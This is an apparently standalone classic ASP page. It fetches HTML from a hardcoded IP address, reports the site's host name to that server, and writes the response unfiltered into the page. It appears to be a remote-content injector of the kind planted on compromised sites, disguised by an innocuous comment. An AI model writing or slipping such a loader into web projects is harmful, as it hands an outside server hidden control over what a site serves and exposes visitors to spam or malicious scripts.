<%
' Serves a page fetched from another server, which is told the host.
Dim page
page = Fetch("http://192.0.2.10/gen.php?host=" & Request.ServerVariables("HTTP_HOST"))
Response.Write page

Function Fetch(url)
	Dim x
	Set x = Server.CreateObject("MSXML2.ServerXMLHTTP")
	x.Open "GET", url, False
	x.Send
	Fetch = x.responseText
End Function
%>
